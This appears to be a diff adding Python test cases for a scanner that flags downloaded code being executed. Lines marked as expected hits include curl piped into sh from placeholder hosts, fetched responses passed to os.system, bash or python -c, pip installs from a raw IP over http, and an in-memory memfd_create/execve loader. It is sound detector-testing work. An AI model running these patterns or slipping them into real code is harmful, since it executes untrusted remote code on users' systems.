@@ -153,3 +153,40 @@ async def printed_in_executor():
     loop = asyncio.get_running_loop()
     reply = await loop.run_in_executor(None, urllib.request.urlopen, "https://x.example/y.py")
     print(reply.read().decode())
+
+
+def reply_as_a_command():
+    os.system(requests.get(URL).text)  # expect: hit
+    subprocess.run(["python3", "-c", requests.get(URL).text])  # expect: hit
+    subprocess.run(["sh"], input=requests.get(URL).content)  # expect: hit
+    subprocess.run(["git", "clone", requests.get(URL).json()["clone_url"]])
+    subprocess.run(["jq", "."], input=requests.get(URL).content)
+
+
+def reply_to_a_shell():
+    shell = subprocess.Popen(["bash"], stdin=subprocess.PIPE)
+    shell.communicate(requests.get(URL).content)  # expect: hit
+
+
+def reply_to_a_tool():
+    tool = subprocess.Popen(["gzip", "-d"], stdin=subprocess.PIPE)
+    tool.communicate(requests.get(URL).content)
+
+
+def the_shell_fetches():
+    subprocess.run("curl -s https://x.example/i | sh", shell=True)  # expect: hit
+    subprocess.run(["bash", "-c", "bash <(curl -s https://x.example/i)"])  # expect: hit
+    subprocess.run("curl -sSf https://sh.rustup.rs/ | sh -s -- -y", shell=True)
+    subprocess.run("curl -s https://x.example/data.json | jq .name", shell=True)
+
+
+def packages_from_anywhere():
+    subprocess.run([sys.executable, "-m", "pip", "install", "git+http://203.0.113.8/x.git"])  # expect: hit
+    subprocess.run([sys.executable, "-m", "pip", "install", "requests"])
+    subprocess.run([sys.executable, "-m", "pip", "install", "git+https://git.example/acme.git"])
+
+
+def in_memory():
+    number = os.memfd_create("x")
+    os.write(number, requests.get(URL).content)
+    os.execve(f"/proc/self/fd/{number}", ["x"], os.environ)  # expect: hit
